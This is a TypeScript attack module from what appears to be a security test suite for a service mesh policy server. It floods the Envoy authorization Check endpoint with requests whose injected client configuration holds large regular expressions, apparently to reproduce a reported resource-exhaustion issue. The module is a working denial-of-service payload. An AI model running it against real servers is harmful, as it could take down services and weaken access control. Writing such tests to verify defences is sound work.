import { booksService } from '../../../bootstrap/status/status-objects.js';
import { checkRequestBytes, policyEncoder } from '../../../policy/server/policy-server-rig.js';
import type { Attack } from '../attack.js';
import { callUnary, openHttp2 } from '../raw-http2.js';
import { createTenantClient } from '../tenant-client.js';
import { ATTACKERS } from '../tenants.js';

const SERVICE = `books.${ATTACKERS}.svc.cluster.local`;
const CHECK = '/envoy.service.auth.v3.Authorization/Check';
/** As the issue names them; and as many as fit in the headers that the server takes. */
const SIZES = [
  { checks: 4, characters: 100_000 },
  { checks: 20, characters: 24_000 },
] as const;

/** Checks of connections whose client configuration consists of large regular expressions, each Check with its own. */
export const attack: Attack = {
  title: '4 Checks with 100 KB of expressions in their client configuration, and 20 with 24 KB',
  async run(target, scale, signal) {
    const client = createTenantClient(target);
    await client.applyAll(booksService(ATTACKERS));
    client.close();
    const { host, ports, root, serverName, credentials } = target;
    const tls = { ca: root, servername: serverName, cert: credentials.certificate, key: credentials.key };
    const counts = new Map<string, number>();
    let number = 0;
    const ask = async (characters: number): Promise<void> => {
      // By turns with a certificate and without.
      const session = openHttp2({
        host,
        port: ports.policy,
        from: '127.0.0.22',
        ...(number % 2 === 0 ? { tls } : {}),
      });
      const metadata = { 'x-mesh-service': SERVICE, 'x-mesh-client-config': configText(characters, number++) };
      const answer = await callUnary(session, CHECK, checkRequestBytes({ attributes: {} }), metadata).then(
        () => 'answered',
        (error: unknown) => String(error).slice(0, 120),
      );
      counts.set(answer, (counts.get(answer) ?? 0) + 1);
      session.destroy();
    };
    for (const { checks, characters } of SIZES) {
      for (let round = 0; round < scale && !signal.aborted; round++) {
        await Promise.all(Array.from({ length: checks }, () => ask(characters)));
      }
    }
    return [...counts].map(([answer, count]) => `${count} ${answer}`).join(', ');
  },
};

/** @param number makes the expressions different from those of other Checks */
function configText(characters: number, number: number): string {
  const rules = [];
  // A rule takes about 60 characters of base64.
  for (let index = 0; index * 60 < characters; index++) {
    const regex = `.{0,900}${number}x${index}`;
    rules.push({ match: [{ clause: { 'source.user': { regex } } }], quotas: [{ quota: 'q', charge: 1 }] });
  }
  const flags = { disableCheckCalls: false, disableReportCalls: false, reportInterval: '10s' };
  // Control planes send a service's rules to the policy server alone: a text with them comes from an attacker.
  return policyEncoder.tcpClientConfig({ ...flags, connectionQuotaSpec: { rules } }).toString('base64');
}
